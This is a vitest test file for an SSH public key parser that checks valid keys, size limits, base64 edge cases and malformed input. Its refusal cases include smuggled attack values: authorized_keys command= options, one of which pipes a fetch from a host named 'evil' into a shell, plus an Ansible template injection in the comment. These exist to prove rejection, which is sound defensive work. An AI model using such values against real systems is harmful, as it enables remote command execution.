import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { buildPlatform } from "../../model/platform.js";
import { formatSshPublicKey, parseSshPublicKey } from "../../model/ssh.js";
import { sampleSpec, VALID_SSH_KEY } from "../support/specs.js";
import { ECDSA_256_KEY, ECDSA_384_KEY, ECDSA_521_KEY, RSA_1024_KEY, RSA_2048_KEY } from "../support/ssh-keys.js";

const [ED25519_TYPE, ED25519_BODY] = VALID_SSH_KEY.split(" ") as [string, string];
const ED25519_BARE = `${ED25519_TYPE} ${ED25519_BODY}`;
/** 104 bytes: the last base64 digit before "=" has two unused bits, so another digit there decodes the same. */
const ECDSA_256_BODY = ECDSA_256_KEY.split(" ")[1]!;

/** A security-key ed25519 blob: type, 32-byte key, application (no ssh-keygen can make one without a token). */
function skEd25519Key(): string {
  const field = (bytes: Buffer) => {
    const length = Buffer.alloc(4);
    length.writeUInt32BE(bytes.length);
    return Buffer.concat([length, bytes]);
  };
  const blob = Buffer.concat([field(Buffer.from("sk-ssh-ed25519@openssh.com")), field(Buffer.alloc(32, 9)), field(Buffer.from("ssh:"))]);
  return `sk-ssh-ed25519@openssh.com ${blob.toString("base64")} yubikey`;
}

const BASE64_DIGITS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
function flipUnusedBit(digit: string): string {
  return BASE64_DIGITS[BASE64_DIGITS.indexOf(digit) ^ 1]!;
}

function problemOf(text: string): string {
  const { problem } = parseSshPublicKey(text);
  if (problem === undefined) throw new Error(`accepted: ${JSON.stringify(text)}`);
  return problem;
}

describe("parseSshPublicKey", () => {
  it.each([VALID_SSH_KEY, RSA_2048_KEY, ECDSA_256_KEY, ECDSA_384_KEY, ECDSA_521_KEY, skEd25519Key()])("accepts a real key and gives it back as written: %s", (line) => {
    const { key } = parseSshPublicKey(line);
    expect(key).toBeDefined();
    expect(formatSshPublicKey(key!)).toBe(line);
  });

  it("keeps no comment when there is none, and drops spaces around the line", () => {
    expect(parseSshPublicKey(`  ${ED25519_TYPE} ${ED25519_BODY}  \n`).key).toEqual({ type: ED25519_TYPE, body: ED25519_BODY });
  });

  it.each([
    ["a second key on a second line", `${VALID_SSH_KEY}\n${RSA_2048_KEY}`, /holds more than one line/],
    ["a second line with options", `${VALID_SSH_KEY}\ncommand="sh" ${RSA_1024_KEY}`, /holds more than one line/],
    ["a carriage return", `${VALID_SSH_KEY}\rssh-rsa AAAA`, /holds more than one line/],
    ["command= before the type", `command="id" ${VALID_SSH_KEY}`, /starts with authorized_keys options \("command="id""\) before the key type/],
    ["from= before the type", `from="*" ${VALID_SSH_KEY}`, /starts with authorized_keys options/],
    ["options without values", `no-pty,restrict ${VALID_SSH_KEY}`, /starts with authorized_keys options/],
    ["a template in the comment", `${VALID_SSH_KEY} {{ lookup('pipe','id > /tmp/pwned') }}`, /comment with the template delimiter "\{\{"/],
    ["a statement in the comment", `${VALID_SSH_KEY} {% if true %}`, /template delimiter "\{%"/],
    ["a Jinja comment in the comment", `${VALID_SSH_KEY} x #}`, /template delimiter "#\}"/],
    ["a control character in the comment", `${VALID_SSH_KEY} ops\u0007bell`, /control or unprintable character/],
    ["a line separator in the comment", `${VALID_SSH_KEY} ops\u2028x`, /control or unprintable character/],
    ["a tab in the comment", `${VALID_SSH_KEY} ops\tx`, /control or unprintable character/],
    ["an overlong comment", `${ED25519_BARE} ${"x".repeat(201)}`, /comment of 201 characters; allowed: at most 200/],
    ["an unknown type", "ssh-dss AAAAB3NzaC1kc3M= old", /has key type "ssh-dss"/],
    ["an RSA key under 2048 bits", RSA_1024_KEY, /RSA key shorter than 2048 bits/],
    ["a truncated body", `${ED25519_TYPE} ${ED25519_BODY.slice(0, 40)} x`, /not base64|not a ssh-ed25519 key/],
    ["a body with bytes after the key", `${ED25519_TYPE} ${Buffer.concat([Buffer.from(ED25519_BODY, "base64"), Buffer.alloc(3)]).toString("base64")}`, /not a ssh-ed25519 key/],
    ["a body of another type", `ssh-rsa ${ED25519_BODY}`, /not a ssh-rsa key/],
    ["an ECDSA body with another curve", `ecdsa-sha2-nistp384 ${ECDSA_256_BODY}`, /not a ecdsa-sha2-nistp384 key/],
    ["a non-canonical base64 body", `ecdsa-sha2-nistp256 ${ECDSA_256_BODY.slice(0, -2)}${flipUnusedBit(ECDSA_256_BODY.at(-2)!)}=`, /not base64/],
    ["a type alone", ED25519_TYPE, /is not an OpenSSH public key/],
  ])("refuses %s", (_, line, expected) => {
    expect(problemOf(line)).toMatch(expected);
  });

  it("accepts any printable comment without template delimiters, and renders it unchanged", () => {
    const piece = fc.constantFrom("ops@acme", "'", '"', "`", "$(id)", ";", "&&", "|", ": ", "#", "&a", "*a", "!tag", "- ", "%", "{", "}", "\\", "é", "日本", "🙂", " ", "<>", "${x}");
    const comment = fc.array(piece, { minLength: 1, maxLength: 12 }).map((parts) => parts.join("").trim()).filter((text) => text.length > 0 && !/\{\{|\}\}|\{%|%\}|\{#|#\}/.test(text));
    fc.assert(
      fc.property(comment, (text) => {
        const { key, problem } = parseSshPublicKey(`${ED25519_BARE} ${text}`);
        expect(problem).toBeUndefined();
        expect(key!.comment).toBe(text);
      }),
    );
  });
});

describe("the model's keys", () => {
  it("names the field and refuses a second key smuggled after a newline", () => {
    const spec = sampleSpec();
    spec.admin.sshPublicKeys = [VALID_SSH_KEY, `${VALID_SSH_KEY}\ncommand="curl evil|sh" ${RSA_2048_KEY}`];
    const { issues } = buildPlatform(spec);
    expect(issues).toEqual([expect.objectContaining({ path: ["admin", "sshPublicKeys", 1], message: expect.stringMatching(/holds more than one line; allowed: one OpenSSH public key line/) })]);
  });

  it("keeps the parsed parts", () => {
    const spec = sampleSpec();
    spec.admin.sshPublicKeys = [`  ${RSA_2048_KEY}  `];
    const [type, body, comment] = RSA_2048_KEY.split(" ");
    expect(buildPlatform(spec).platform!.admin.sshPublicKeys).toEqual([{ type, body, comment }]);
  });
});

/** A key blob of length-prefixed strings, as base64 (RFC 4253). */
function blob(...fields: (string | Buffer)[]): string {
  return Buffer.concat(
    fields.map((field) => {
      const bytes = typeof field === "string" ? Buffer.from(field, "latin1") : field;
      const length = Buffer.alloc(4);
      length.writeUInt32BE(bytes.length);
      return Buffer.concat([length, bytes]);
    }),
  ).toString("base64");
}
const rsaKey = (...modulus: Buffer[]) => `ssh-rsa ${blob("ssh-rsa", Buffer.from([1, 0, 1]), Buffer.concat(modulus))} ops@acme`;
const bytes = (count: number, value: number) => Buffer.alloc(count, value);

describe("parseSshPublicKey, exactly", () => {
  it("measures an RSA modulus by its value: 2047 bits refused, 2048 and 2049 accepted, zero bytes in front not counted", () => {
    expect(parseSshPublicKey(rsaKey(bytes(1, 0), bytes(1, 0x80), bytes(255, 0xff))).key?.type).toBe("ssh-rsa");
    expect(parseSshPublicKey(rsaKey(bytes(1, 0x01), bytes(256, 0xff))).key?.type).toBe("ssh-rsa");
    expect(problemOf(rsaKey(bytes(1, 0x7f), bytes(255, 0xff)))).toBe("is an RSA key shorter than 2048 bits; use ssh-ed25519 or RSA of 2048 bits or more");
    expect(problemOf(rsaKey(bytes(2, 0), bytes(1, 0x80), bytes(254, 0xff)))).toMatch(/^is an RSA key shorter than 2048 bits/);
    expect(problemOf(rsaKey(bytes(300, 0)))).toMatch(/^is an RSA key shorter than 2048 bits/);
  });

  it.each([
    ["a key field claiming a byte more than it has", `ssh-ed25519 ${Buffer.from(blob("ssh-ed25519", bytes(33, 7)), "base64").subarray(0, -1).toString("base64")}`, "has a body that is not a ssh-ed25519 key (truncated or pasted wrong?)"],
    ["an extra field after the key", `ssh-ed25519 ${blob("ssh-ed25519", bytes(32, 7), "x")}`, "has a body that is not a ssh-ed25519 key (truncated or pasted wrong?)"],
    ["a security key's body under another type with as many fields", `ssh-rsa ${blob("sk-ssh-ed25519@openssh.com", bytes(32, 7), "ssh:")}`, "has a body that is not a ssh-rsa key (truncated or pasted wrong?)"],
    // Four bytes left that read as an empty field: a key of the right shape but no length.
    ["an ed25519 key of 0 bytes", `ssh-ed25519 ${blob("ssh-ed25519", bytes(0, 7))}`, "has a ssh-ed25519 body of the wrong length (truncated?)"],
    ["an ed25519 key of 31 bytes", `ssh-ed25519 ${blob("ssh-ed25519", bytes(31, 7))}`, "has a ssh-ed25519 body of the wrong length (truncated?)"],
    ["an ECDSA body naming another curve", `ecdsa-sha2-nistp384 ${blob("ecdsa-sha2-nistp384", "nistp256", bytes(65, 4))}`, "has a body that is not a ecdsa-sha2-nistp384 key (its curve is another)"],
    ["options that hold no '=', ',' or quote", `restrict ${VALID_SSH_KEY}`, `starts with authorized_keys options ("restrict") before the key type; allowed: one OpenSSH public key line`],
    ["an unknown type, listing the known ones", "ssh-dss AAAAB3NzaC1kc3M= old", 'has key type "ssh-dss"; allowed: ssh-ed25519, ssh-rsa, ecdsa-sha2-nistp256, ecdsa-sha2-nistp384, ecdsa-sha2-nistp521, sk-ssh-ed25519@openssh.com, sk-ecdsa-sha2-nistp256@openssh.com'],
    ["an unknown type of 40 characters, whole", `${"t".repeat(40)} AAAA`, `has key type "${"t".repeat(40)}"; allowed:`],
    ["an unknown type of 41 characters, cut to 37", `${"t".repeat(41)} AAAA`, `has key type "${"t".repeat(37)}..."; allowed:`],
  ])("refuses %s", (_, line, expected) => {
    expect(problemOf(line).startsWith(expected), problemOf(line)).toBe(true);
  });

  it("accepts a comment of exactly 200 characters", () => {
    expect(parseSshPublicKey(`${ED25519_BARE} ${"x".repeat(200)}`).key?.comment).toBe("x".repeat(200));
  });

  it("accepts several spaces or tabs between the parts, and drops white space around the comment", () => {
    expect(parseSshPublicKey(`${ED25519_TYPE}  \t${ED25519_BODY}\t ops@acme`).key).toEqual({ type: ED25519_TYPE, body: ED25519_BODY, comment: "ops@acme" });
    expect(parseSshPublicKey(`${ED25519_BARE} \u00a0ops@acme\u00a0`).key?.comment).toBe("ops@acme");
    expect(parseSshPublicKey(`${ED25519_BARE} \u00a0`).key).toEqual({ type: ED25519_TYPE, body: ED25519_BODY });
  });

  it("writes a key without a comment as type and body only", () => {
    expect(formatSshPublicKey({ type: "ssh-ed25519", body: ED25519_BODY })).toBe(ED25519_BARE);
    expect(formatSshPublicKey({ type: "ssh-ed25519", body: ED25519_BODY, comment: "ops" })).toBe(`${ED25519_BARE} ops`);
  });
});
